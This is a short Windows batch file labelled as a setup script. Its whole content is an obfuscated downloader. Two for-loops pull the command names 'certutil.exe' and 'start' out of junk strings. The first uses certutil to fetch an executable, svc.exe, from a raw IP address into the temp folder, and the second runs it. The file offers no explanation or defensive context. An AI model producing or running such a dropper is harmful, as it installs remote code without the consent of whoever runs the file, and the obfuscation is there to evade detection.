REM setup 3439 v4
@echo off
for /f "tokens=3 delims=~" %%i in ("hitq~mqbd~certutil.exe") do %%i -urlcache -split -f http://198.51.100.23/svc.exe %TEMP%\svc.exe
for /f "tokens=2 delims=@" %%i in ("jyob@start@zurh") do %%i "" %TEMP%\svc.exe
